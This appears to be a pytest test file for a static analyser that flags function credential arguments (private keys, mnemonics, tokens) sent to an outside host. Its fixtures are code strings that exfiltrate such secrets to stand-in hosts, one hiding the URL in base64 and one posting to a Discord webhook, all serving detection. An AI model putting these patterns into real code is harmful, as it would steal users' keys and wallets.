"""Credentials that are given as arguments and sent where none belongs."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, Taint
from tests.analysis.languages.python.reading import facts

HIDDEN = "base64.b64decode('aHR0cHM6Ly9zaW5rLmludmFsaWQv').decode()"


def credentials(source: str) -> list[str | None]:
    """The names of the credentials that are told; a flow is told with each."""
    found = facts("import base64, hashlib, json, requests\n" + source)
    flows = [flow for flow in found.flows if Taint.SECRETS in flow.taints]
    uses = [use.argument for use in found.uses if use.api == "credential-parameter"]
    assert len(flows) == len(uses)
    assert all(flow.sink is Capability.NETWORK for flow in flows)
    return uses


@pytest.mark.parametrize(
    ("name", "source"),
    [
        ("private_key", "def f(private_key):\n requests.post('https://sink.invalid/x', json={'k': private_key})"),
        ("mnemonic", "def f(mnemonic):\n requests.get('https://sink.invalid/?m=' + mnemonic)"),
        ("private_key", "def f(private_key):\n d = {'k': private_key}\n requests.post('https://sink.invalid', data=json.dumps(d))"),
        ("_private_key", "class A:\n def f(self):\n  requests.post('https://sink.invalid', data=self._private_key)"),
        ("private_key", "def g(k):\n requests.post('https://sink.invalid', data=k)\ndef f(private_key):\n g(private_key)"),
        ("mnemonic", "def f(mnemonic):\n requests.get('https://sink.invalid', headers={'X-Id': mnemonic.encode().hex()})"),
        ("mnemonic", "import threading\ndef g(k):\n requests.post('https://sink.invalid', data=k)\ndef f(mnemonic):\n threading.Thread(target=g, args=(mnemonic,)).start()"),
        ("private_key", "def f(name, private_key):\n requests.post(f'https://{name}.sink.invalid/', data=private_key)"),
        ("access_key_secret", "def f(c):\n requests.post('https://sink.invalid', json={'a': c.access_key_id, 's': c.access_key_secret})"),
        ("secret_key", f"def f(secret_key):\n requests.post(url={HIDDEN}, json=secret_key)"),
        ("key", f"def f(key):\n requests.get({HIDDEN} + key)"),
        ("token", "def f(token):\n requests.post('https://discord.com/api/webhooks/1/x', json={'content': f'got {token}'})"),
    ],
)  # fmt: skip
def test_a_credential_that_is_sent_away_is_told(name: str, source: str) -> None:
    assert credentials(source) == [name]


@pytest.mark.parametrize(
    "source",
    [
        "def f(token):\n requests.post('https://api.own.invalid', headers={'Authorization': token})",
        "def f(token):\n requests.post('https://api.own.invalid', json={'token': token})",
        "def f(api_key):\n requests.get('https://api.own.invalid', params={'key': api_key})",
        "def f(u, password):\n requests.post('https://api.own.invalid/login', data={'u': u, 'p': password})",
        "def f(client_id, client_secret):\n requests.post('https://own.invalid/oauth', data=[client_id, client_secret])",
        "def f(token):\n requests.get(f'https://api.telegram.org/bot{token}/getMe')",
        "def f(private_key):\n requests.post('https://own.invalid', data=sign(private_key))",
        "def f(private_key):\n requests.post('https://own.invalid', data=hashlib.sha256(private_key).hexdigest())",
        "def f(private_key):\n requests.post('http://localhost:8545', data=private_key)",
        "def f(url, private_key):\n requests.post(url, data=private_key)",
        "def f(host, private_key):\n requests.post(f'https://{host}/login', data=private_key)",
        "def f(private_key):\n requests.post('https://own.invalid', data='signed' if private_key else 'open')",
        "def f(private_key):\n requests.post('https://own.invalid', json={'signed': private_key is not None})",
        "def f(private_key):\n requests.post('https://own.invalid', auth=('u', private_key))",
    ],
)
def test_what_clients_send_to_their_own_host_is_not(source: str) -> None:
    assert credentials(source) == []


@given(
    st.recursive(
        st.sampled_from(["token", "f(x)", "a.b", "{'k': x}", "x"]),
        lambda c: st.builds("({} + {})".format, c, c),
    )
)
def test_any_body_is_looked_through(body: str) -> None:
    assert credentials(f"def f(x):\n x = {body}\n requests.post('https://own.invalid', data=x)") == []


@pytest.mark.parametrize("given", ["mnemonic[::-1]", "mnemonic[2:]", "mnemonic"])
def test_a_part_of_it_is_followed_through_a_call_by_name(given: str) -> None:
    source = (
        "import requests\ndef tell(ref=''):\n  requests.get('https://far.invalid/p', params={'r': ref})\n"
        f"def make(mnemonic):\n  tell(ref={given})\n"
    )
    assert ["mnemonic"] == [use.argument for use in facts(source).uses if use.api == "credential-parameter"]


def test_a_client_of_a_store_of_texts_sends_it_its_token() -> None:
    source = (
        "class A:\n def f(self):\n  requests.post('https://api.telegra.ph/x', data={'t': self.access_token})"
    )
    assert [] == credentials(source)
    assert ["access_token"] == credentials(f"{source}\nrequests.get('https://far.invalid/x')")
    assert ["password"] == credentials(source.replace("access_token", "password"))
